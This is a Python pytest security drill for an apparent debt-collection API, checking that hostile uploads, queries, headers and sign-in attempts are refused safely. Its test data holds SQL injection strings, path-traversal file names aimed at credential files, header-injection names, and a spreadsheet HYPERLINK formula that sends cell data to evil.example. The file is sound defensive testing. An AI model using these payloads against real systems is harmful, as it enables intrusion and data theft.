"""Hostile input, as a drill: oversized bodies and headers, placement files built to hurt
(a 10 MB line, NUL bytes, 10,000 columns, a formula in every text cell), SQL
meta-characters in every search and filter, path tricks in uploaded file names, and
brute-force sign-in from many addresses. Nothing may answer 500, hang, write half a
thing, or hand a formula back to a spreadsheet."""

from __future__ import annotations

import csv
import io
import os
import socket
import tempfile
import uuid
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import asyncpg
import httpx
import pytest

from scripts.drills import drillkit
from server.clients.column_map import default_column_map
from tests import servers as test_servers
from tests.fixtures import PASSWORD, Caller, MakeAccount, MakeClient, MakeUser, client_from
from tests.placements.test_ingest import csv_bytes, good_row, upload, upload_and_load

HEADER = list(default_column_map().columns)
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
SQL_TRICKS = [
    "' OR '1'='1",
    "'; DROP TABLE account; --",
    '" OR ""="',
    "%",
    "_",
    "\\",
    "%' UNION SELECT username, password_hash FROM app_user --",
    "1; SELECT pg_sleep(5)",
    "$1",
    "\u0000",
    "ʼ OR 1=1 --",
    "x" * 5000,
]
TABLES = ("account", "debtor", "app_user", "client", "placement", "call", "payment")


async def _counts(db: asyncpg.Connection) -> dict[str, int]:
    return {t: int(await db.fetchval(f"SELECT count(*) FROM {t}")) for t in TABLES}


async def _errors(caller: Caller, placement_id: str) -> list[dict[str, Any]]:
    response = await caller.get(f"/api/v1/placements/{placement_id}/errors?limit=500")
    assert response.status_code == 200
    return list(response.json()["items"])


# --- bodies and headers ------------------------------------------------------------------


@pytest.mark.parametrize(
    "path",
    [
        "/api/v1/auth/login",
        "/api/v1/clients",
        "/api/v1/users",
        f"/api/v1/accounts/{uuid.uuid4()}/offers",
        f"/api/v1/accounts/{uuid.uuid4()}/calls",
        f"/api/v1/accounts/{uuid.uuid4()}/payments",
    ],
)
async def test_a_body_over_one_mib_is_413_on_every_json_route(
    admin: Caller, path: str, owner_db: asyncpg.Connection
) -> None:
    before = await _counts(owner_db)
    body = b'{"notes": "' + b"x" * (2 << 20) + b'"}'
    response = await admin.post(
        path,
        content=body,
        headers={"Content-Type": "application/json", "Idempotency-Key": "big-body"},
    )
    assert response.status_code == 413, response.text
    assert response.json()["error"]["code"] == "payload_too_large"
    assert await _counts(owner_db) == before


async def test_oversized_headers_are_refused_with_431(http: httpx.AsyncClient) -> None:
    big = await http.get("/api/v1/me", headers={"Authorization": "Bearer " + "a" * 100_000})
    assert big.status_code == 431, big.text
    assert big.json()["error"]["code"] == "headers_too_large"
    many = await http.get("/health", headers={f"X-H{i}": "v" for i in range(500)})
    assert many.status_code == 431
    assert (await http.get("/health")).status_code == 200


@pytest.fixture(scope="module")
def live_api(services: test_servers.TestServers) -> Iterator[str]:
    """A real `agency api` (uvicorn and httptools) on the run's database."""
    directory = Path(tempfile.mkdtemp(prefix="agency-hostile-"))
    stack = drillkit.Stack(
        directory=directory,
        env={**os.environ, "LOG_LEVEL": "error"},
        owner_url=services.owner_url,
        postgres=None,
        redis=None,
    )
    api = stack.api()
    try:
        yield api.base_url
    finally:
        api.process.stop()


def _raw(base_url: str, request: bytes) -> bytes:
    host, port = base_url.removeprefix("http://").split(":")
    with socket.create_connection((host, int(port)), timeout=20) as conn:
        conn.sendall(request)
        received = b""
        while b"\r\n\r\n" not in received:
            piece = conn.recv(65536)
            if not piece:
                break
            received += piece
        return received


def test_a_live_server_refuses_huge_headers_and_keeps_serving(live_api: str) -> None:
    huge = b"GET /health HTTP/1.1\r\nHost: x\r\nX-Big: " + b"a" * 5_000_000 + b"\r\n\r\n"
    assert _raw(live_api, huge).startswith(b"HTTP/1.1 431")
    many = b"GET /health HTTP/1.1\r\nHost: x\r\n" + b"".join(
        b"X-H%d: v\r\n" % i for i in range(20_000)
    )
    assert _raw(live_api, many + b"\r\n").startswith(b"HTTP/1.1 431")
    assert httpx.get(f"{live_api}/health", timeout=10).status_code == 200


# --- placement files built to hurt ------------------------------------------------------


async def test_a_10_mb_line_is_refused_alone(admin: Caller, make_client: MakeClient) -> None:
    client = await make_client()
    rows = [good_row(1), good_row(2, last_name="L" * (10 << 20)), good_row(3)]
    placement = await upload_and_load(admin, client["client_id"], csv_bytes(rows))
    assert (placement["rows_accepted"], placement["rows_rejected"]) == (2, 1)
    [error] = await _errors(admin, placement["placement_id"])
    assert (error["line"], error["code"]) == (3, "record_too_long")


async def test_nul_bytes_are_refused_per_row_and_in_json(
    admin: Caller, make_client: MakeClient, make_account: MakeAccount, make_user: MakeUser
) -> None:
    client = await make_client()
    rows = [good_row(1, first_name="Ma\x00ria"), good_row(2), good_row(3, city="\x00")]
    placement = await upload_and_load(admin, client["client_id"], csv_bytes(rows))
    assert (placement["rows_accepted"], placement["rows_rejected"]) == (1, 2)
    assert {e["code"] for e in await _errors(admin, placement["placement_id"])} == {"nul_byte"}
    # A NUL in the header refuses the file whole, and nothing is kept.
    header = csv_bytes([good_row(4)], header=[HEADER[0] + "\x00", *HEADER[1:]])
    assert (await upload(admin, client["client_id"], header)).status_code == 422
    # PostgreSQL cannot store NUL in text: JSON strings carrying one are refused, not 500.
    account = await make_account(client["client_id"])
    collector = await make_user("collector", client_ids=[client["client_id"]])
    call = await collector.post(
        f"/api/v1/accounts/{account['id']}/calls",
        json={"phone": "+16145550142", "direction": "outbound",
              "started_at": "2026-11-20T15:00:00+00:00", "duration_s": 30,
              "outcome": "no_answer", "notes": "left\u0000message"},
    )  # fmt: skip
    assert call.status_code == 422, call.text
    for body in (
        {"username": "a\u0000b", "password": "x"},
        {"username": "admin", "password": "p\u0000"},
    ):
        assert (await admin.post("/api/v1/auth/login", json=body)).status_code in (401, 422)
    named = await admin.post("/api/v1/clients", json={"name": "Acme\u0000"})
    assert named.status_code == 422


async def test_10_000_columns(admin: Caller, make_client: MakeClient) -> None:
    client = await make_client()
    wide_header = HEADER + [f"extra_{i}" for i in range(10_000 - len(HEADER))]
    refused = await upload(admin, client["client_id"], csv_bytes([good_row(1)], wide_header))
    assert refused.status_code == 422, refused.text
    assert refused.json()["error"]["code"] == "too_many_columns"
    lines = csv_bytes([good_row(1), good_row(2)]).split(b"\r\n")
    lines.insert(2, b"WIDE" + b",x" * 10_000)
    placement = await upload_and_load(admin, client["client_id"], b"\r\n".join(lines))
    assert (placement["rows_accepted"], placement["rows_rejected"]) == (2, 1)
    [error] = await _errors(admin, placement["placement_id"])
    assert error["code"] == "too_many_columns"


def _csv_cells(body: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(body.decode())) for cell in row]


async def test_a_formula_in_every_text_cell_is_escaped_on_the_way_out(
    admin: Caller, make_client: MakeClient
) -> None:
    client = await make_client()
    text_columns = ("client_account_number", "first_name", "last_name", "address_line1",
                    "address_line2", "city", "email", "original_creditor")  # fmt: skip
    rows = []
    for n, start in enumerate(FORMULA_STARTS[:4]):
        formula = f'{start}HYPERLINK("http://evil.example/?x="&A1,"click")'
        rows.append(good_row(n, **{column: formula + str(n) for column in text_columns}))
    placement = await upload_and_load(admin, client["client_id"], csv_bytes(rows))
    assert placement["rows_read"] == len(rows)
    downloads = [
        await admin.get(f"/api/v1/placements/{placement['placement_id']}/acknowledgement.csv"),
        await admin.get(f"/api/v1/placements/{placement['placement_id']}/errors.csv"),
    ]
    cells = [cell for d in downloads for cell in _csv_cells(d.content)]
    dangerous = [c for c in cells if c.startswith(FORMULA_STARTS) and not c.lstrip("-").isdigit()]
    assert not dangerous, dangerous
    assert any(c.startswith("'=HYPERLINK") for c in cells) or placement["rows_accepted"] == 0


# --- SQL meta-characters in every search and filter ------------------------------------


async def test_sql_meta_characters_in_every_search_and_filter(
    http: httpx.AsyncClient,
    admin: Caller,
    make_client: MakeClient,
    make_account: MakeAccount,
    owner_db: asyncpg.Connection,
) -> None:
    client = await make_client()
    await make_account(client["client_id"])
    schema = (await http.get("/schema/openapi.json")).json()
    before = await _counts(owner_db)
    tried = 0
    for path, operations in schema["paths"].items():
        get = operations.get("get")
        if not get or "{" in path:
            continue
        names = [p["name"] for p in get.get("parameters", []) if p["in"] == "query"]
        if names and (await admin.get(path)).status_code == 403:
            continue  # a route of another role (a collector's own lists): not the admin's
        for name in names:
            for trick in SQL_TRICKS:
                response = await admin.get(path, params={name: trick})
                tried += 1
                assert response.status_code < 500, (path, name, trick, response.text)
                assert response.status_code in (200, 400, 404, 422), (path, name, response.text)
    assert tried > 50
    # LIKE's own meta-characters match themselves: no account starts with % or _.
    for trick in ("%", "_", "\\", "%%", "_%"):
        found = await admin.get("/api/v1/accounts", params={"q": trick})
        assert found.status_code == 200
        assert found.json()["items"] == [], trick
    # Tricks in path ids are not ids.
    for trick in ("' OR '1'='1", "..%2F..%2Fetc", "1;DROP TABLE account"):
        assert (await admin.get(f"/api/v1/accounts/{trick}")).status_code in (400, 404, 422)
    assert await _counts(owner_db) == before


# --- path tricks in uploaded file names ---------------------------------------------------

NAME_TRICKS = [
    "../../../../etc/passwd",
    "..\\..\\..\\windows\\system32\\config\\sam",
    "/etc/shadow",
    "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "..",
    ".",
    "evil\r\nX-Injected: 1.csv",
    "report\u202egpj.exe",
    "nul\x00byte.csv",
    "con.csv:stream",
    "x" * 5000,
]


def _safe(name: str | None) -> bool:
    if name is None:
        return True
    return (
        "/" not in name
        and "\\" not in name
        and name not in (".", "..")
        and len(name) <= 255
        and not any(ord(c) < 0x20 or ord(c) == 0x7F or 0x202A <= ord(c) <= 0x202E for c in name)
    )


@pytest.mark.parametrize("trick", NAME_TRICKS)
async def test_path_tricks_in_uploaded_file_names(
    admin: Caller, make_client: MakeClient, trick: str
) -> None:
    client = await make_client()
    sent = []
    body = csv_bytes([good_row(1)])
    sent.append(
        await admin.post(
            "/api/v1/placements",
            params={"client_id": client["client_id"], "file_name": trick},
            content=body,
            headers={"Content-Type": "text/csv"},
        )
    )
    sent.append(
        await admin.post(
            "/api/v1/placements",
            params={"client_id": client["client_id"], "kind": "maintenance"},
            files={"file": (trick, csv_bytes([good_row(2)], header=HEADER[:3]), "text/csv")},
        )
    )
    for response in sent:
        assert response.status_code in (202, 422), response.text
        if response.status_code == 202:
            name = response.json()["file_name"]
            assert _safe(name), repr(name)
            placement_id = response.json()["placement_id"]
            ack = await admin.get(f"/api/v1/placements/{placement_id}/acknowledgement.csv")
            assert "\n" not in ack.headers["content-disposition"]


# --- brute-force sign-in ------------------------------------------------------------------


async def test_brute_force_sign_in_from_many_addresses_is_stopped_per_username(
    app: Any, make_user: MakeUser
) -> None:
    victim = await make_user("collector")
    bystander = await make_user("supervisor")
    answers = []
    for n in range(40):
        async with client_from(app, f"198.51.{n // 200}.{n % 200 + 1}") as attacker:
            guess = await attacker.post(
                "/api/v1/auth/login",
                json={"username": victim.username.upper() if n % 2 else victim.username,
                      "password": f"guess-{n}"},
            )  # fmt: skip
            answers.append(guess.status_code)
            if guess.status_code == 429:
                assert int(guess.headers["retry-after"]) > 0
    # Only failures count: ten guesses of the window's ten, then refused.
    assert answers[:10] == [401] * 10
    assert set(answers[10:]) == {429}
    # Locked for the window even with the right password, from a new address...
    async with client_from(app, "192.0.2.200") as owner:
        right = await owner.post(
            "/api/v1/auth/login", json={"username": victim.username, "password": PASSWORD}
        )
        assert right.status_code == 429
        # ...while everyone else signs in as usual.
        other = await owner.post(
            "/api/v1/auth/login", json={"username": bystander.username, "password": PASSWORD}
        )
        assert other.status_code == 200


async def test_password_spraying_from_one_address_is_stopped(app: Any, clean_state: None) -> None:
    answers = []
    async with client_from(app, "203.0.113.99") as sprayer:
        for n in range(205):
            guess = await sprayer.post(
                "/api/v1/auth/login", json={"username": f"user{n}", "password": "Winter2026!"}
            )
            answers.append(guess.status_code)
    assert answers[:200] == [401] * 200
    assert answers[200:] == [429] * 5


async def test_header_limits_hold_at_32_kib_and_100_headers(http: httpx.AsyncClient) -> None:
    """At the limit is served, one byte or one header past it is 431."""

    def padded_to(total_bytes: int) -> dict[str, str]:
        base = http.build_request("GET", "/health", headers={"X-Pad": ""})
        used = sum(len(k) + len(v) for k, v in base.headers.raw)
        return {"X-Pad": "a" * (total_bytes - used)}

    def counted(total: int) -> dict[str, str]:
        base = len(http.build_request("GET", "/health").headers.raw)
        return {f"X-H{i}": "v" for i in range(total - base)}

    assert (await http.get("/health", headers=padded_to(32 * 1024))).status_code == 200
    assert (await http.get("/health", headers=padded_to(32 * 1024 + 1))).status_code == 431
    assert (await http.get("/health", headers=counted(100))).status_code == 200
    assert (await http.get("/health", headers=counted(101))).status_code == 431
